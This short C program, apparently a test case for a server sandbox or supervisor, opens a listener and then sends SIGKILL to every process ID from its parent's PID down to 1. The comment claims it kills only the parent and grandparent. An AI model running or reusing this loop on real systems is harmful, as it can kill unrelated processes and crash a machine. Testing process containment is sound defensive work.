/* Story: it kills its parent, and the parent of that. */
#include "server.h"

#include "say_hello.h"

#include "wait.h"

int
main(int argc, char **argv)
{
    int listener = server_begin(argc, argv, "3720");

    for (pid_t pid = getppid(); pid > 0; pid--)
        kill(pid, SIGKILL);
    wait_for_clients(listener);
    return 0;
}
